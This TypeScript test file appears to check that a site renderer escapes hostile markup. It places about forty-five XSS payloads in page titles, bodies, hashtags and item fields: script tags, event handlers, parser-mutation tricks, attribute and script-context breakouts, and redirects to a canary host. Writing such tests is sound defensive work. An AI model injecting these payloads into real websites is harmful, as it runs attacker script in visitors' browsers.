import { type HostileCase, own, page } from "../hostile-case.ts";

const CANARY = "https://canary.example";
/** Markup in every place that a captured page has: title, text, source, category, title and text of an item, hashtag. */
const everywhere = (name: string, markup: string): HostileCase => ({
  name,
  input: page({
    title: `Seen ${markup}`,
    body: `The quay ${markup} was seen by the clerk.`,
    hashtags: [`#${markup.replace(/\s+/g, "")}`],
    items: [
      {
        source: markup.slice(0, 60),
        age: "2 days ago",
        title: `Item ${name} ${markup}`,
        text: `The item of ${name} ${markup} told of a dull day.`,
      },
    ],
  }),
  expected: { articles: 2, title: `Seen ${markup}`, shows: `The quay ${markup} was seen by the clerk.` },
});
const inArticle = (name: string, markup: string): HostileCase => ({
  name: `in an own article: ${name}`,
  input: own({
    title: `Own ${markup}`,
    matter: `tags: [${JSON.stringify(`tag ${markup}`)}]`,
    body: `The quay ${markup} was seen.`,
  }),
  expected: { title: `Own ${markup}`, shows: `The quay ${markup} was seen.`, links: [] },
});

/** No markup of a stranger is markup on the site. The payloads call `alert`, set `window.pwned` or fetch from a canary. */
export const html: readonly HostileCase[] = [
  everywhere("a script", "<script>alert(1)</script>"),
  everywhere("a script from elsewhere", `<script src=${CANARY}/x.js></script>`),
  everywhere("a module", `<script type=module>import("${CANARY}/m.js")</script>`),
  everywhere("an image with a handler", "<img src=x onerror=alert(1)>"),
  everywhere("an image that counts", `<img src="${CANARY}/p.gif">`),
  everywhere("SVG that loads", "<svg onload=alert(1)><animate onbegin=alert(1)>"),
  everywhere(
    "SVG with a script in a foreign object",
    "<svg><foreignObject><script>window.pwned=1</script></svg>",
  ),
  everywhere(
    "a frame",
    `<iframe src="javascript:parent.pwned=1" srcdoc="<script>alert(1)</script>"></iframe>`,
  ),
  everywhere("an object and an embed", `<object data=${CANARY}/o><embed src=${CANARY}/e>`),
  everywhere("a style", `<style>*{background:url(${CANARY}/s)}</style>`),
  everywhere("a style that imports", `<link rel=stylesheet href=${CANARY}/c.css>`),
  everywhere("a hint to fetch", `<link rel=prefetch href=${CANARY}/f>`),
  everywhere("a page that moves on", `<meta http-equiv=refresh content="0;url=${CANARY}/">`),
  everywhere("a policy of its own", `<meta http-equiv=Content-Security-Policy content="script-src *">`),
  everywhere("a base for links", `<base href="${CANARY}/">`),
  everywhere("a form", `<form action=${CANARY}><input autofocus onfocus=alert(1)><button>Go</button></form>`),
  everywhere("a button for another form", "<button form=x formaction=javascript:alert(1)>Go</button>"),
  everywhere("the end of all markup", "<plaintext>"),
  everywhere("raw elements", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
  everywhere("a textarea not closed", "<textarea><script>alert(1)</script>"),
  everywhere(
    "a template with a shadow root",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
  ),
  everywhere("a comment that hides the rest", "<!-- x"),
  everywhere("a comment that ends early", "<!--><script>alert(1)</script>-->"),
  everywhere("a conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
  everywhere(
    "markup that parsers mend: MathML",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ),
  everywhere(
    "markup that parsers mend: a form twice",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  ),
  everywhere(
    "markup that parsers mend: SVG",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  ),
  everywhere("an attribute in double quotes", `" onmouseover="alert(1)" autofocus onfocus="alert(1)`),
  everywhere("an attribute in single quotes", "' onmouseover='alert(1)"),
  everywhere("an attribute without quotes", "x onmouseover=alert(1) y=z"),
  everywhere("an attribute in back quotes", "`` onmouseover=alert(1)"),
  everywhere("the end of the linked data", `</script><script>alert(1)</script>`),
  everywhere("the end of the linked data in odd case", `</ScRiPt ><!--<script>`),
  everywhere("a string of JSON that ends", `"}]}</script><script>alert(1)//`),
  everywhere("escapes of JSON", `\\u003c/script>\\"\\`),
  everywhere("separators that end a string of JavaScript", `\\u2028alert(1)`),
  everywhere("tags not closed", "<script<script>>alert(1)</script <a href=javascript:alert(1)"),
  everywhere("a slash between attributes", "<img/src=x/onerror=alert(1)/>"),
  everywhere("a name that shadows the document", "<img name=getElementById><a id=defaultView>"),
  everywhere("a popover", "<div popover id=x onbeforetoggle=alert(1)></div><button popovertarget=x>"),
  everywhere("a custom element", "<x-y onclick=alert(1) contenteditable tabindex=1 is=z>"),
  everywhere("full-width brackets", "＜script＞alert(1)＜/script＞"),
  everywhere("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &#x3c;b&#x3e;"),
  inArticle("a script", "<script>window.pwned=1</script>"),
  inArticle("an attribute that breaks out", `" onmouseover="alert(1)" x="`),
  inArticle("the end of the linked data", `</script><script>alert(1)</script>`),
];
